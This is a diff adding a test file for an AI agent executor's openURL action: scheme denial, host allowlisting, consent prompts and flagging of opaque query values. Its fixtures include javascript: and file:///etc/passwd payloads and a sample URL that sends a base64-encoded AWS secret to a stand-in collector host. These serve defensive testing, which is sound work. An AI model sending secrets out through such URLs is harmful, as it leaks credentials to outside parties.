@@ -1,0 +1,91 @@
+import { afterEach, describe, expect, it } from 'vitest';
+import { isOpaqueValue, parseOpenableUrl } from '../../../src/actions/open-url.js';
+import { actorFor } from '../../../src/domain/actor.js';
+import { Executor } from '../../../src/executor/executor.js';
+import { tempSetup } from '../../helpers/temp-dirs.js';
+
+const person = actorFor('cli');
+const agent = actorFor('mcp', 'test-agent');
+const open: Executor[] = [];
+
+function executor(policy: Record<string, unknown> = {}, openExternal?: (url: string) => Promise<void>): Executor {
+  const { dataDir } = tempSetup(policy);
+  const opened = Executor.open(dataDir, { openExternal });
+  open.push(opened);
+  return opened;
+}
+
+afterEach(() => {
+  for (const item of open.splice(0)) item.close();
+});
+
+const plan = (url: string) => ({ steps: [{ id: 'u1', action: 'openURL', args: { url, purpose: 'read the docs' } }] });
+
+describe('openURL', () => {
+  it('denies every scheme but http: and https:, judged after parsing', async () => {
+    for (const url of ['javascript:alert(1)', 'file:///etc/passwd', 'data:text/html,<script>x</script>', ' JAVASCRIPT:alert(1)', 'ftp://example.com/', 'not a url', 'https://user:pw@example.com/']) {
+      const ex = executor();
+      const [record] = await ex.propose(plan(url), agent);
+      expect(record!.status, url).toBe('denied');
+      expect(record!.evaluation?.risk).toBe('CRITICAL');
+    }
+    expect(parseOpenableUrl('HTTPS://Example.COM/a').ok).toBe(true);
+  });
+
+  it('is HIGH for a host not on the allowlist and shows every query parameter decoded, flagging opaque values', async () => {
+    const ex = executor();
+    const secret = Buffer.from('AWS_SECRET_ACCESS_KEY=abcdefghijklmnop').toString('base64');
+    const [record] = await ex.propose(plan(`https://collector.example/p%20ath?q=hello%20world&d=${encodeURIComponent(secret)}#frag%21`), agent);
+    expect(record!.status).toBe('awaiting_consent');
+    expect(record!.evaluation?.risk).toBe('HIGH');
+    expect(record!.evaluation?.reversible).toBe(false);
+    expect(record!.preview).toMatchObject({
+      kind: 'url',
+      host: 'collector.example',
+      path: '/p ath',
+      fragment: 'frag!',
+      query: [
+        { name: 'q', value: 'hello world', opaque: false },
+        { name: 'd', value: secret, opaque: true },
+      ],
+    });
+    expect(record!.evaluation?.reasons.join(' ')).toMatch(/long opaque value/);
+  });
+
+  it('is LOW for an allowlisted host (exact or *.subdomain), and HIGH again when it carries an opaque value', async () => {
+    const ex = executor({ network: { allowHosts: ['docs.example.org', '*.trusted.example'] } });
+    const [exact] = await ex.propose({ steps: [{ action: 'openURL', args: { url: 'https://docs.example.org/guide?page=2', purpose: 'p' } }] }, agent);
+    const [sub] = await ex.propose({ steps: [{ action: 'openURL', args: { url: 'https://a.trusted.example/', purpose: 'p' } }] }, agent);
+    const [bare] = await ex.propose({ steps: [{ action: 'openURL', args: { url: 'https://trusted.example/', purpose: 'p' } }] }, agent);
+    const [lookalike] = await ex.propose({ steps: [{ action: 'openURL', args: { url: 'https://eviltrusted.example/', purpose: 'p' } }] }, agent);
+    const [carrying] = await ex.propose({ steps: [{ action: 'openURL', args: { url: `https://docs.example.org/?x=${'Zm9v'.repeat(10)}`, purpose: 'p' } }] }, agent);
+    expect([exact, sub, bare, lookalike, carrying].map((record) => record!.evaluation?.risk)).toEqual(['LOW', 'LOW', 'HIGH', 'HIGH', 'HIGH']);
+  });
+
+  it('opens through the injected openExternal once approved, and cannot be reverted', async () => {
+    const opened: string[] = [];
+    const ex = executor({}, async (url) => void opened.push(url));
+    const [record] = await ex.propose(plan('https://example.com/a?b=c'), agent);
+    expect(opened).toEqual([]);
+    const done = await ex.approve(record!.step.id, person);
+    expect(done.status).toBe('executed');
+    expect(opened).toEqual(['https://example.com/a?b=c']);
+    expect(done.result).toEqual({ url: 'https://example.com/a?b=c', opened: true });
+    await expect(ex.revertStep(record!.step.id, person)).rejects.toMatchObject({ code: 'NOT_REVERSIBLE' });
+  });
+
+  it('reports the URL unopened where no browser is attached (CLI, executor serve)', async () => {
+    const ex = executor();
+    const [record] = await ex.propose(plan('https://example.com/'), agent);
+    const done = await ex.approve(record!.step.id, person);
+    expect(done.status).toBe('executed');
+    expect(done.result).toMatchObject({ url: 'https://example.com/', opened: false });
+  });
+
+  it('tells text from opaque blobs', () => {
+    expect(isOpaqueValue('a perfectly ordinary search query with words')).toBe(false);
+    expect(isOpaqueValue('short')).toBe(false);
+    expect(isOpaqueValue('deadbeefdeadbeefdeadbeefdeadbeef')).toBe(true);
+    expect(isOpaqueValue('eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0')).toBe(true);
+  });
+});
